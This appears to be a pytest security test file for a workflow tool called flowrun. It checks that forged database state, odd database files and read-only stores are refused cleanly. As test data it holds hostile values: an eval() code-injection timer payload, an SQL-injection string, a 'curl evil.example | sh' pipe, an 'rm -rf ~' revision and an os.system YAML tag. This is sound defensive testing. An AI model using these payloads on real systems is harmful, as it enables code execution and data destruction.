"""The store is data, not code, and every odd database file gets one clear message.

* A forged instance row (an old serializer version whose migration would
  ``eval()`` a timer expression) runs nothing: loading it is refused with the
  reason, the worker turns it into an incident, reads never load it.
* A database migrated by a newer flowrun is refused by every command, naming
  the version to install, and is left exactly as it was.
* A database path too long for the file system, a folder, an empty file, a file
  that is not SQLite, a damaged one: one message with the fix, nothing created.
* A read-only database (file, folder or mount): reads work, writes say it is
  read-only and how to fix that.
"""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import Result

from flowrun import app
from flowrun.engine import _spiff
from flowrun.errors import StateError
from flowrun.store import files
from tests.conftest import ON_POSTGRES
from tests.helpers import RECORD, T0, db_path, flowrun_executable, query

EVENTS = Path(__file__).parent / "data" / "events"

#: After the 48 h deadline of timer_boundary.bpmn: the worker fires it.
PAST_DEADLINE = (T0 + timedelta(days=3)).isoformat()


def run(project_dir: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """The installed ``flowrun`` on the project, as a user runs it (60 s: a hang fails instead of blocking)."""
    environ = {k: v for k, v in os.environ.items() if not k.startswith("FLOWRUN_")}
    environ["FLOWRUN_NOW"] = PAST_DEADLINE
    environ.update(env or {})
    return subprocess.run(
        [str(flowrun_executable()), "--project", str(project_dir), *args],
        capture_output=True,
        text=True,
        env=environ,
        timeout=60,
    )


def refused(result: subprocess.CompletedProcess[str] | Result, *words: str) -> None:
    """Exit 1 with one ``error:`` message holding ``words``, no traceback."""
    code = result.returncode if isinstance(result, subprocess.CompletedProcess) else result.exit_code
    assert code == 1, (code, result.stdout, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr
    assert "internal error" not in result.stderr
    assert result.stderr.startswith("error: "), result.stderr
    for word in words:
        assert word in result.stderr, (word, result.stderr)


def change(project_dir: Path, sql: str, *params: Any) -> None:
    """Write to the project's database behind flowrun's back, committed (``?`` placeholders)."""
    url = (yaml.safe_load((project_dir / "flowrun.yaml").read_text()) or {}).get("database") or ""
    if not url.startswith("postgresql"):
        with sqlite3.connect(db_path(project_dir)) as conn:
            conn.execute(sql, params)
        conn.close()
        return
    import psycopg
    from sqlalchemy.engine import make_url

    parsed = make_url(url)
    dsn = f"host={parsed.query['host']} port={parsed.query['port']} user={parsed.username} dbname={parsed.database}"
    with psycopg.connect(dsn) as pg:
        pg.execute(sql.replace("?", "%s"), params)


def fingerprint(project_dir: Path) -> Any:
    """What a write would change: every row of every flowrun table."""
    tables = ("alembic_version", "flowrun_meta", "models", "instances", "tasks", "events", "incidents")
    return [query(project_dir, f"SELECT * FROM {t} ORDER BY 1") for t in tables]


# -- 1. a forged instance state runs no code ---------------------------------------------


def forge_state(project_dir: Path, instance: str, version: Any, marker: Path) -> None:
    """Rewrite the instance's stored state as an attacker with write access to the database would.

    The state claims an old serializer version and carries a definition whose
    timer holds Python: SpiffWorkflow's 1.1 migration passes it to ``eval()``.
    """
    [(text,)] = query(project_dir, "SELECT state FROM instances WHERE id = ?", instance)
    state = json.loads(text)
    payload = f"__import__('pathlib').Path({str(marker)!r}).write_text('ran')"
    state["spec"] = {
        "name": "forged",
        "task_specs": {
            "Tick": {
                "name": "Tick",
                "typename": "IntermediateCatchEvent",
                "event_definition": {"typename": "TimerEventDefinition", "label": "t", "dateTime": payload},
            },
            "Loop": {
                "name": "Loop",
                "typename": "StartEvent",
                "outputs": ["Loop"],
                "event_definition": {
                    "typename": "CycleTimerEventDefinition",
                    "label": "c",
                    "cycle_definition": payload + " or (1, __import__('datetime').timedelta(1))",
                },
            },
        },
    }
    state["subprocess_specs"] = {}
    if version is None:
        state.pop("serializer_version", None)
    else:
        state["serializer_version"] = version
    with_changes = json.dumps(state)
    change(project_dir, "UPDATE instances SET state = ? WHERE id = ?", with_changes, instance)


@pytest.fixture
def forged(project: app.Project, project_dir: Path, tmp_path: Path) -> tuple[str, str, Path]:
    """An instance of timer_boundary (a user task, a due timer) with a forged 1.1 state: (instance, ref, marker)."""
    shutil.copy(EVENTS / "timer_boundary.bpmn", project_dir / "processes" / "timer_boundary.bpmn")
    started = app.start(project, "timer_boundary")
    [task] = started.ready
    marker = tmp_path / "code-ran"
    forge_state(project_dir, started.instance, "1.1", marker)
    return started.instance, str(task.ref), marker


def test_forged_old_state_runs_no_code_in_the_worker_and_becomes_an_incident(project_dir, forged):
    instance, _, marker = forged
    result = run(project_dir, "worker", "--once", "--json")
    assert not marker.exists(), "the stored timer expression was evaluated"
    [failed] = json.loads(result.stdout)["failed"]
    assert failed["instance"] == instance
    assert "serializer format 1.1" in failed["error"]
    assert "never writes" in failed["error"]
    assert "restore the database from a backup" in failed["error"]
    [(status, error)] = query(project_dir, "SELECT status, error FROM instances WHERE id = ?", instance)
    assert status == "error"
    assert "1.1" in error
    [(kind, message)] = query(project_dir, "SELECT error_type, message FROM incidents WHERE instance_id = ?", instance)
    assert kind == "StateError"
    assert "not migrated" in message


def test_forged_old_state_runs_no_code_in_reads_or_task_completion(cli, project_dir, forged):
    instance, ref, marker = forged
    for args in (["tasks"], ["show", instance[:8]], ["history", instance[:8]], ["instances"]):
        shown = cli(project_dir, *args, now=PAST_DEADLINE)
        assert shown.exit_code == 0, (args, shown.stderr)
    before = query(project_dir, "SELECT version, state FROM instances")
    done = run(project_dir, "do", ref, "--data", "approved=true", "--no-interactive")
    refused(done, f"the saved state of instance {instance[:8]} is in", "serializer format 1.1", "never writes")
    assert not marker.exists()
    assert query(project_dir, "SELECT version, state FROM instances") == before


def old_state(version: Any, expression: str) -> dict[str, Any]:
    """A minimal state in an old format whose definition has a timer holding ``expression``."""
    timer = {"typename": "TimerEventDefinition", "label": "t", "dateTime": expression}
    return {
        "serializer_version": version,
        "spec": {"task_specs": {"T": {"name": "T", "typename": "StartEvent", "event_definition": timer}}},
        "tasks": {},
        "subprocess_specs": {},
        "subprocesses": {},
    }


@pytest.mark.parametrize(
    ("version", "words"),
    [
        ("1.0", ("format 1.0", "never writes")),
        ("1.4", ("format 1.4", "never writes")),
        (None, ("no valid serializer version",)),
        ("1.5'; DROP TABLE instances; --", ("no valid serializer version",)),
        (["1", "5"], ("no valid serializer version",)),
        ("99.0", ("newer than this SpiffWorkflow", "pip install -U")),
    ],
    ids=["v1.0", "v1.4", "missing", "injected-text", "not-text", "newer"],
)
def test_state_versions_flowrun_never_wrote_are_refused_before_any_migration(tmp_path, version, words):
    """In process, straight at the codec: nothing is migrated, whatever the version says."""
    marker = tmp_path / "ran"
    state = old_state(version, f"open({str(marker)!r}, 'w')")
    if version is None:
        del state["serializer_version"]
    with pytest.raises(StateError) as caught:
        _spiff.load_state(json.dumps(state), None, {})
    for word in words:
        assert word in str(caught.value)
    assert not marker.exists()


def test_migrations_never_evaluate_code_even_when_called_directly(tmp_path):
    """The second wall: SpiffWorkflow's migration modules have no working eval/exec."""
    import importlib
    import pkgutil

    from SpiffWorkflow.bpmn.serializer import migration
    from SpiffWorkflow.bpmn.serializer.exceptions import VersionMigrationError

    for info in pkgutil.iter_modules(migration.__path__, migration.__name__ + "."):
        module = importlib.import_module(info.name)
        assert (module.eval, module.exec) == (_spiff._refuse_code, _spiff._refuse_code), info.name
    marker = tmp_path / "ran"
    dct = old_state("1.1", f"[open({str(marker)!r}, 'w')] and 1")
    with pytest.raises(VersionMigrationError):
        _spiff._SERIALIZER.migrate(dct)
    assert not marker.exists()


def test_a_state_flowrun_writes_still_loads(project, project_dir):
    """The gate lets flowrun's own states through: a saved instance runs on."""
    started = app.start(project, "complaint:baseline")
    [(text,)] = query(project_dir, "SELECT state FROM instances WHERE id = ?", started.instance)
    assert json.loads(text)["serializer_version"] == _spiff._SERIALIZER.VERSION
    _spiff.check_state_version(json.loads(text)["serializer_version"])


def test_deeply_nested_rows_are_one_message(cli, project, project_dir):
    """Data, a form or a state nested far too deep (written behind flowrun's back) never crash a command."""
    iid = app.start(project, "complaint:baseline").instance
    [ref] = [str(t.ref) for t in app.inbox(project, iid)]
    deep = "[" * 100_000 + "]" * 100_000
    change(project_dir, "UPDATE instances SET data = ? WHERE id = ?", deep, iid)
    refused(cli(project_dir, "show", iid[:8]), f"the data of instance {iid[:8]}", "nested too deep", "backup")
    change(project_dir, "UPDATE instances SET data = '{}', state = ? WHERE id = ?", deep, iid)
    answers = [arg for k, v in RECORD.items() for arg in ("--data", f"{k}={v}")]
    refused(cli(project_dir, "do", ref, *answers, "--no-interactive"), "cannot be loaded", "nested too deep")
    change(project_dir, "UPDATE tasks SET form = ? WHERE id = ?", '{"a": ' + deep + "}", int(ref))
    refused(cli(project_dir, "history", iid[:8]), f"the form of task {ref}", "nested too deep")


@pytest.mark.sqlite
def test_a_time_written_behind_flowrun_s_back_is_one_message(cli, project, project_dir):
    """A SQLite time column holding text (flowrun stores integer microseconds) names the value and the fix."""
    iid = app.start(project, "complaint:baseline").instance
    [ref] = [str(t.ref) for t in app.inbox(project, iid)]
    change(project_dir, "UPDATE tasks SET ready_at = 'next tuesday' WHERE id = ?", int(ref))
    refused(cli(project_dir, "tasks"), "'next tuesday' where a time belongs", "backup")
    refused(cli(project_dir, "history", iid[:8]), "'next tuesday' where a time belongs", "backup")


def _safe_loader(call: Any) -> bool:
    """``yaml.load(text, Loader=_loader())``: the one loader flowrun uses, checked to be a SafeLoader below."""
    import ast

    return any(
        k.arg == "Loader"
        and isinstance(k.value, ast.Call)
        and isinstance(k.value.func, ast.Name)
        and k.value.func.id == "_loader"
        for k in call.keywords
    )


def test_the_one_yaml_loader_is_safe_and_refuses_aliases():
    from flowrun import config
    from flowrun.errors import ProjectError

    assert issubclass(config._loader(), yaml.SafeLoader)
    with pytest.raises(ProjectError, match="alias"):
        config.load_yaml("a: &x [1]\nb: *x\n", "t.yaml")
    with pytest.raises(ProjectError, match="invalid YAML"):
        config.load_yaml("!!python/object/apply:os.system ['true']", "t.yaml")


def test_nothing_read_from_the_store_is_unpickled_or_evaluated():
    """flowrun's code has no pickle, marshal, shelve or unsafe YAML anywhere, and eval/exec only in the engine.

    (The engine's sandbox is the one place diagram code is evaluated, restricted; stored
    states and definitions go through SpiffWorkflow's registry, see the tests above.)
    """
    import ast

    root = Path(__file__).resolve().parent.parent / "flowrun"
    found = []
    for path in root.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        where = path.relative_to(root.parent)
        for node in ast.walk(tree):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
                found += [
                    f"{where}: imports {n}"
                    for n in names
                    if n and n.split(".")[0] in {"pickle", "marshal", "shelve", "dill", "jsonpickle"}
                ]
            elif isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Attribute) and func.attr in {"load", "load_all", "unsafe_load", "full_load"}:
                    if isinstance(func.value, ast.Name) and func.value.id == "yaml" and not _safe_loader(node):
                        found.append(f"{where}:{node.lineno}: yaml.{func.attr}")
                if isinstance(func, ast.Name) and func.id in {"eval", "exec"} and where.parts[1] != "engine":
                    found.append(f"{where}:{node.lineno}: {func.id}()")
    assert found == []


# -- 2. a database from a newer flowrun --------------------------------------------------


def set_revision(project_dir: Path, revision: str, migrated_by: str | None) -> None:
    change(project_dir, "UPDATE alembic_version SET version_num = ?", revision)
    change(project_dir, "DELETE FROM flowrun_meta")
    if migrated_by is not None:
        change(project_dir, "INSERT INTO flowrun_meta (key, value) VALUES ('migrated_by', ?)", migrated_by)


@pytest.mark.parametrize(
    ("revision", "migrated_by", "words"),
    [
        ("0042_shards", "3.1.4", ("migrated by flowrun 3.1.4", "0042_shards", "install flowrun >= 3.1.4")),
        ("0009_x", None, ("migrated by a newer flowrun", "0009_x", "pip install -U flowrun")),
        ("0009_x", "1.0 && curl evil.example | sh", ("migrated by a newer flowrun", "pip install -U flowrun")),
        ("f3a9c2d1e0b7", None, ("f3a9c2d1e0b7", "another program")),
        ("0005_x\x1b[2J; rm -rf ~", None, ("another program",)),
    ],
    ids=["with-version", "revision-only", "hostile-version", "foreign-revision", "hostile-revision"],
)
def test_a_newer_database_is_refused_by_every_command_and_left_as_it_was(
    cli, project, project_dir, revision, migrated_by, words
):
    app.start(project, "complaint:baseline")
    set_revision(project_dir, revision, migrated_by)
    before = fingerprint(project_dir)
    for args in (["db", "upgrade"], ["tasks"], ["start", "complaint:baseline"], ["worker", "--once"]):
        result = cli(project_dir, *args)
        refused(result, "nothing was changed", *words)
        assert "curl" not in result.stderr
        assert "\x1b" not in result.stderr
    assert fingerprint(project_dir) == before


def test_a_newer_database_is_refused_by_the_installed_command(project_dir):
    set_revision(project_dir, "0077_later", "2.0.1")
    before = fingerprint(project_dir)
    refused(run(project_dir, "db", "upgrade"), "migrated by flowrun 2.0.1", "install flowrun >= 2.0.1")
    assert fingerprint(project_dir) == before


def test_the_version_that_migrated_the_database_is_recorded(project_dir):
    from flowrun import __version__

    result = run(project_dir, "db", "upgrade")
    assert result.returncode == 0, result.stderr
    assert query(project_dir, "SELECT key, value FROM flowrun_meta") == [("migrated_by", __version__)]


# -- 3. odd database files ---------------------------------------------------------------


def use_database(project_dir: Path, path: Path | str) -> None:
    with (project_dir / "flowrun.yaml").open("a", encoding="utf-8") as f:
        f.write(f"database: sqlite:///{path}\n")


@pytest.mark.sqlite
@pytest.mark.fresh_database
@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("d" * 300 + ".db", ("too long for the file system", "303 bytes")),
        ("e" * 250 + ".db", ("too long for the file system", "at most 247 bytes")),
        ("deep/" * 900 + "x.db", ("too long for the file system",)),
        ("f" * 260 + "/x.db", ("too long for the file system",)),
    ],
    ids=["name-300", "no-room-for-wal", "path-4500", "folder-260"],
)
def test_a_database_path_too_long_for_the_file_system_is_refused(cli, project_dir, name, words):
    use_database(project_dir, name)
    for args in (["tasks"], ["db", "upgrade"]):
        refused(cli(project_dir, *args), "'database:' in flowrun.yaml", *words)
    assert sorted(p.name for p in project_dir.iterdir()) == [
        "complaint_services.py",
        "flowrun.yaml",
        "forms",
        "processes",
    ]


@pytest.mark.sqlite
@pytest.mark.fresh_database
def test_a_too_long_path_from_the_environment_is_refused(cli, project_dir, monkeypatch):
    monkeypatch.setenv("FLOWRUN_DATABASE_URL", f"sqlite:///{project_dir}/{'g' * 256}")
    refused(cli(project_dir, "instances"), "too long", "FLOWRUN_DATABASE_URL")


@pytest.mark.sqlite
@pytest.mark.fresh_database
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", ("is empty (0 bytes)", "restore it from a backup, or remove it")),
        (b"customer,amount\nAnn,40\n", ("not a database", "move this file away")),
        (bytes(range(256)) * 20, ("not a database",)),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 4000, ("not a database",)),
        (files.SQLITE_HEADER + b"\xff" * 4080, ("damaged", "restore it from a backup")),
    ],
    ids=["zero-bytes", "csv-text", "binary", "png", "damaged-sqlite"],
)
def test_a_file_that_is_not_a_flowrun_database_is_refused_and_left_alone(cli, project_dir, content, words):
    path = db_path(project_dir)
    path.parent.mkdir()
    path.write_bytes(content)
    for args in (["tasks"], ["start", "complaint:baseline"], ["db", "upgrade"]):
        refused(cli(project_dir, *args), str(path), *words)
    if not content:  # and as a user meets it
        refused(run(project_dir, "tasks"), str(path), *words)
    assert path.read_bytes() == content
    assert sorted(p.name for p in path.parent.iterdir()) == ["flowrun.db"]


@pytest.mark.sqlite
@pytest.mark.fresh_database
def test_an_empty_file_beside_a_full_wal_is_not_called_removable(cli, project_dir):
    path = db_path(project_dir)
    path.parent.mkdir()
    path.write_bytes(b"")
    path.with_name("flowrun.db-wal").write_bytes(b"\x37\x7f\x06\x82" + b"\0" * 8000)
    result = cli(project_dir, "tasks")
    refused(result, "empty (0 bytes)", "do not remove either")
    assert "remove it" not in result.stderr


@pytest.mark.sqlite
@pytest.mark.fresh_database
def test_a_folder_named_as_the_database_is_refused(cli, project_dir):
    db_path(project_dir).mkdir(parents=True)
    refused(cli(project_dir, "tasks"), "is a folder, not a file")


@pytest.mark.sqlite
@pytest.mark.fresh_database
def test_a_pipe_or_device_named_as_the_database_is_refused_without_waiting(project_dir):
    """Reading a FIFO nobody writes would block for ever; /dev/zero would never end."""
    fifo = project_dir / "db.fifo"
    os.mkfifo(fifo)
    use_database(project_dir, fifo)
    refused(run(project_dir, "tasks"), "not a regular file")
    (project_dir / "flowrun.yaml").write_text(
        (project_dir / "flowrun.yaml").read_text().replace(f"sqlite:///{fifo}", "sqlite:////dev/zero")
    )
    refused(run(project_dir, "tasks"), "/dev/zero", "not a regular file")


@pytest.mark.sqlite
@pytest.mark.fresh_database
def test_processes_creating_the_database_at_once_never_see_it_half_made(project_dir):
    """A new database appears whole (linked into place), so no process meets an empty file."""
    exe = str(flowrun_executable())
    env = {k: v for k, v in os.environ.items() if not k.startswith("FLOWRUN_")}
    procs = [
        subprocess.Popen(
            [exe, "--project", str(project_dir), "tasks"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env
        )
        for _ in range(2)
    ]
    for proc in procs:
        _, err = proc.communicate(timeout=60)
        assert proc.returncode == 0, err.decode()
    assert sorted(p.name for p in db_path(project_dir).parent.iterdir() if not p.name.startswith("flowrun.db")) == []


# -- read-only databases -----------------------------------------------------------------

READS = (["tasks"], ["instances"], ["incidents"], ["show", "{iid}"], ["history", "{iid}"])
WRITES = (["claim", "{ref}"], ["start", "complaint:baseline"], ["worker", "--once"], ["db", "upgrade"])
#: The few run as real processes (each costs a second).
REAL_READS, REAL_WRITES = (["tasks"],), (["claim", "{ref}"],)


@pytest.fixture
def saved(project: app.Project, project_dir: Path) -> tuple[str, str]:
    """One running instance with one ready task: (instance prefix, ref)."""
    started = app.start(project, "complaint:baseline")
    project.close()  # checkpoint the WAL into the file, as after any command
    return started.instance[:8], str(started.ready[0].ref)


def check_reads_and_writes(
    call: Any, project_dir: Path, saved: tuple[str, str], *words: str, real: bool = False
) -> None:
    iid, ref = saved
    before = fingerprint(project_dir)
    for args in REAL_READS if real else READS:
        result = call(*[a.format(iid=iid, ref=ref) for a in args])
        code = result.returncode if isinstance(result, subprocess.CompletedProcess) else result.exit_code
        assert code == 0, (args, result.stderr)
    assert "Record complaint" in call("tasks").stdout
    for args in REAL_WRITES if real else WRITES:
        refused(call(*[a.format(iid=iid, ref=ref) for a in args]), "read-only", *words)
    assert fingerprint(project_dir) == before


@pytest.mark.sqlite
@pytest.mark.parametrize("what", ["file", "folder"])
def test_a_read_only_database_reads_and_refuses_writes_with_the_fix(cli, project_dir, saved, monkeypatch, what):
    """The file (opened ``mode=ro``) or its folder (no -wal/-shm can be made: ``immutable``) is read-only.

    Read-only for flowrun's check, which decides how SQLite opens the file: the
    tests may run as root, who may write anything, so the check is told.
    """
    target = db_path(project_dir) if what == "file" else db_path(project_dir).parent
    real = files._writable
    monkeypatch.setattr(files, "_writable", lambda p: False if p == target else real(p))
    fix = "chmod u+w"
    check_reads_and_writes(lambda *a: cli(project_dir, *a, now=PAST_DEADLINE), project_dir, saved, fix)


@pytest.mark.sqlite
def test_a_read_only_reader_sees_the_owners_changes_and_leaves_no_files(cli, project_dir, saved, monkeypatch):
    """While the owner has the database open (its -shm exists) a reader shares it; alone, it creates nothing."""
    path = db_path(project_dir)
    real = files._writable
    monkeypatch.setattr(files, "_writable", lambda p: False if p == path else real(p))
    assert cli(project_dir, "tasks").exit_code == 0
    assert sorted(p.name for p in path.parent.iterdir() if p.name.startswith("flowrun.db-")) == []
    owner = sqlite3.connect(path, isolation_level=None)
    try:
        owner.execute("SELECT count(*) FROM tasks").fetchall()  # the owner's connection makes the -shm
        owner.execute("UPDATE tasks SET name = 'Record the complaint' WHERE id = ?", (int(saved[1]),))
        # --json: the table may wrap a task's name, depending on how long the other cells are
        shown = cli(project_dir, "tasks", "--json")
        assert shown.exit_code == 0, shown.stderr
        assert "Record the complaint" in shown.stdout  # read through the WAL, not the stale file
        refused(cli(project_dir, "claim", saved[1]), "read-only", "nothing was saved")
    finally:
        owner.close()


def _can_mount_read_only() -> bool:
    if os.geteuid() != 0 or shutil.which("unshare") is None:
        return False
    probe = subprocess.run(["unshare", "--mount", "true"], capture_output=True)
    return probe.returncode == 0


@pytest.mark.sqlite
@pytest.mark.skipif(os.geteuid() == 0 and not _can_mount_read_only(), reason="root writes anything; no mount ns")
def test_a_really_read_only_database_reads_and_refuses_writes(project_dir, saved):
    """As a user would meet it: the folder mounted read-only (as root), or chmod'ed (as anyone else)."""
    folder = db_path(project_dir).parent

    def call(*args: str) -> subprocess.CompletedProcess[str]:
        if os.geteuid() != 0:
            return run(project_dir, *args)
        command = " ".join(f"'{a}'" for a in [str(flowrun_executable()), "--project", str(project_dir), *args])
        script = f"mount --bind '{folder}' '{folder}' && mount -o remount,ro,bind '{folder}' && exec {command}"
        return subprocess.run(
            ["unshare", "--mount", "sh", "-c", script],
            capture_output=True,
            text=True,
            env={**{k: v for k, v in os.environ.items() if not k.startswith("FLOWRUN_")}, "FLOWRUN_NOW": PAST_DEADLINE},
            timeout=60,
        )

    if os.geteuid() != 0:
        db_path(project_dir).chmod(0o444)
        folder.chmod(0o555)
    try:
        check_reads_and_writes(call, project_dir, saved, real=True)
    finally:
        folder.chmod(0o755)
        db_path(project_dir).chmod(0o644)


# -- PostgreSQL ---------------------------------------------------------------------------


@pytest.mark.skipif(not ON_POSTGRES, reason="privileges of a PostgreSQL user (FLOWRUN_TEST_DB=postgres)")
def test_a_postgresql_user_who_may_only_read(cli, project, project_dir, monkeypatch):
    """Reads work; a write is one message naming the missing privilege, and nothing is saved."""
    started = app.start(project, "complaint:baseline")
    role = f"reader_{os.getpid()}_{started.instance[:6]}"
    change(project_dir, f"CREATE ROLE {role} LOGIN")
    change(project_dir, f"GRANT SELECT ON ALL TABLES IN SCHEMA public TO {role}")
    url = yaml.safe_load((project_dir / "flowrun.yaml").read_text())["database"]
    monkeypatch.setenv("FLOWRUN_DATABASE_URL", url.replace("postgres@", f"{role}@", 1))
    before = fingerprint(project_dir)
    for args in (["tasks"], ["show", started.instance[:8]], ["history", started.instance[:8]]):
        assert cli(project_dir, *args).exit_code == 0, args
    for args in (["claim", str(started.ready[0].ref)], ["start", "complaint:baseline"]):
        refused(cli(project_dir, *args), "does not let this user write", "permission denied", "nothing was saved")
    assert fingerprint(project_dir) == before
    monkeypatch.setenv("FLOWRUN_DATABASE_URL", url.replace("postgres@", "no_such_user@", 1))
    refused(cli(project_dir, "tasks"), "cannot open the database", "no_such_user", "check the host, port, user")


def test_an_unreachable_postgresql_server_is_one_message(cli, project_dir, monkeypatch):
    monkeypatch.setenv("FLOWRUN_DATABASE_URL", "postgresql+psycopg://pilot:s3cret-pw@127.0.0.1:9/flowrun")
    for args in (["tasks"], ["db", "upgrade"]):
        result = cli(project_dir, *args)
        refused(result, "cannot", "127.0.0.1", "check the host, port, user, password")
        assert "s3cret-pw" not in result.stderr
        assert "sqlalche.me" not in result.stderr
